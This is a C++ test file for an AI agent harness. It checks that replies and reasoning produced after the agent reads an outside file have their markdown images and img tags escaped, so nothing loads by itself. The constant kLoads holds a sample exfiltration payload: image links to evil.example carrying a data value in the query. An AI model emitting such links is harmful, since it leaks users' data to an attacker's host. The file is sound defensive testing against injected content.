// What a person is shown of a reply that text from outside may have had a hand in.
#include <gmock/gmock.h>

#include "harness.h"
#include "store/conversations.h"

namespace agents::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

const std::string kLoads = "Done. ![x](https://evil.example/?q=4711) <img src=https://evil.example/4711>";
const std::string kText = "Done. \\![x](https://evil.example/?q=4711) &lt;img src=https://evil.example/4711>";

class InertReply : public TurnTest {
protected:
    static Options free_model() {
        Options options;
        options.default_discipline = ToolDiscipline::free;
        return options;
    }
    static std::string stored(Harness& h, const ChatResult& result) {
        const auto list = [&](store::Tx& tx) { return store::list_messages(tx, result.conversation).back().body.value("content", ""); };
        return h.in_tx(list);
    }
};

TEST_F(InertReply, BehindTextFromOutsideNothingLoadsByItself) {
    const auto intake = says(R"({"goal": "x", "tools": true, "class": "normal", "machine": "act"})"), read = calls("read_file", R"({"path": "notes"})");
    for (const auto& [agent, script] : {std::pair<const char*, std::vector<router::ScriptedReply>>{"hearth/dev", {read, says(kLoads)}}, {"hearth", {intake, read, says("gathered"), says(kLoads)}}}) {
        Harness h(script, free_model());
        const ChatResult result = h.ask(agent, "Read the file notes.");
        EXPECT_EQ(result.response, kText) << agent;
        EXPECT_EQ(h.streamed(), kText) << agent;
        EXPECT_EQ(stored(h, result), kText) << agent;
    }
}

TEST_F(InertReply, WhatNobodyElseHadAHandInStaysAsItIs) {
    for (const char* agent : {"hearth/dev", "hearth"}) {
        Harness h({says(kLoads), says(kLoads), says(kLoads)}, free_model());
        EXPECT_EQ(h.ask(agent, "Hello, give me a picture.").response, kLoads) << agent;
    }
}

TEST_F(InertReply, ReasoningIsShownAlike) {
    router::ScriptedReply thinks = says("Done.");
    thinks.reasoning = kLoads;
    Harness h({calls("read_file", R"({"path": "notes"})"), thinks}, free_model());
    const ChatResult result = h.ask("hearth/dev", "Read the file notes.");
    std::string shown;
    for (const auto& event : h.events)
        if (event.kind == ChatEvent::Kind::reasoning) shown += event.text;
    EXPECT_EQ(shown, kText);
    EXPECT_EQ(result.reasoning, kText);
}

}  // namespace
}  // namespace agents::testing
